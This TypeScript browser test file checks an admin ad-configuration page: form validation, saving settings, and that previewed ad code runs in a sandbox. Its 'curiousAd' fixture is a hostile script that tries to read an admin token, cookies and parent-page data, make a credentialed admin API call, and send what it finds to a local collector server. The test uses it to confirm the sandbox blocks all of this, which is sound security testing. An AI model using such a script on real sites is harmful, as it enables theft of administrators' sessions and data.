import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '../support/fixtures.ts'
import { expectToast, settingsForm, watchChanges } from '../support/operator-screens.ts'

const PATH = '/adm/ads'

// Nothing is saved yet, so these reads return 404.
test.beforeEach(({ problems }) => problems.expect(/^404 .*\/api\/admin\/ad-config\//))

test('refuses invalid names and addresses and shows why', async ({ page, operator }) => {
  await operator.open(PATH)
  const zone = settingsForm(page, 'Ad Zone 1')
  const button = settingsForm(page, 'Skip Button')
  const sent = watchChanges(page)
  await expect(zone.field('Zone name')).toHaveValue('Ad Zone 1')
  await expect(button.field('Zone name')).toHaveValue('Skip Button')
  await expect(button.field('Button text')).toHaveValue('Skip this photo')
  for (const [form, label, value, message] of [
    [zone, 'Zone name', '  ', 'Zone name cannot be empty'],
    [button, 'Button text', ' ', 'Button text cannot be empty'],
    [button, 'Destination URL', 'example.com', 'Please enter a valid URL (e.g., https://example.com)'],
  ] as const) {
    await form.field(label).fill(value)
    await form.save.click()
    await expectToast(page, 'Validation Error', message)
    await expect(form.field(label)).toHaveAccessibleDescription(new RegExp(`^${RegExp.escape(message)}`))
    await form.reset.click()
    await form.expectClean()
  }
  expect(sent).toEqual([])
})

test('saves the ad zone and the skip button', async ({ page, operator, request }) => {
  await operator.open(PATH)
  const zone = settingsForm(page, 'Ad Zone 1')
  await zone.field('Ad code').fill('<b>Buy</b>\n<script>1</script>')
  // Ads are sandboxed by default, because ads in the page could read an operator's login.
  await expect(zone.toggle('Run in a sandboxed frame')).toBeChecked()
  await expect(zone.toggle('Run in a sandboxed frame')).toBeDisabled()
  await zone.save.click()
  await zone.expectClean()
  await expect(zone.state('Enabled')).toBeVisible()
  expect(await (await request.get('/api/ad-config/zone1')).json()).toEqual({
    adCode: '<b>Buy</b>\n<script>1</script>',
    isSandboxed: true,
  })

  const button = settingsForm(page, 'Skip Button')
  const preview = page.getByRole('region', { name: 'Skip button preview' })
  await expect(preview).toContainText('Skips to the next photo')
  await button.field('Button text').fill('Next please')
  await button.field('Destination URL').fill('https://partner.example/go')
  await expect(preview).toContainText(/Next please.*Leads to https:\/\/partner\.example\/go/s)
  await button.save.click()
  await expect(button.state('Enabled')).toBeVisible()
  expect(await (await request.get('/api/ad-config/skip-button')).json()).toEqual({
    buttonText: 'Next please',
    buttonUrl: 'https://partner.example/go',
  })
})

/** Starts a server on another origin that records an ad's reports. */
const openCollector = async () => {
  const reports: string[] = []
  const server = createServer((req, res) => {
    reports.push(decodeURIComponent(req.url ?? ''))
    res.setHeader('Access-Control-Allow-Origin', '*').end()
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  return { reports, url, stop: () => server.close() }
}

/** Ad code that tries to escape the sandbox, and reports each success to `to`. */
const curiousAd = (to: string) => `<p>An ad</p><script>
const found = []
const attempt = async (name, act) => { try { await act(); found.push(name) } catch {} }
;(async () => {
  await attempt('storage', () => localStorage.getItem('adminToken'))
  await attempt('session', () => sessionStorage.length)
  await attempt('cookie', () => document.cookie)
  await attempt('parent', () => parent.document.title)
  await attempt('top', () => top.localStorage.length)
  await attempt('move', () => { top.location = 'about:blank' })
  await attempt('popup', () => { if (!open('about:blank')) throw 0 })
  await attempt('call', async () => { const answer = await fetch('/api/admin/media', { credentials: 'include' }); await answer.text() })
  parent.postMessage('adminToken', '*')
  await fetch(${JSON.stringify(to)} + '/' + encodeURIComponent('ran; origin ' + origin + '; found ' + found.join()))
  document.querySelector('p').textContent = 'An ad that ran'
})()
</script>`

test('runs unsaved ad code in a preview without access to the site', async ({ page, operator, problems }) => {
  problems.expect(/Unsafe attempt|Blocked opening|CORS|ERR_|401 |about:blank|sandbox/i)
  const collector = await openCollector()
  await operator.open(PATH)
  const zone = settingsForm(page, 'Ad Zone 1')
  await zone.field('Ad code').fill(curiousAd(collector.url))
  await page.getByRole('button', { name: 'Run Preview' }).click()
  await expect(page.frameLocator('iframe[title="Ad preview"]').getByText('An ad that ran')).toBeVisible()
  expect(collector.reports).toEqual(['/ran; origin null; found '])
  await expect(page).toHaveURL(PATH)
  await zone.expectUnsaved()
  collector.stop()
})
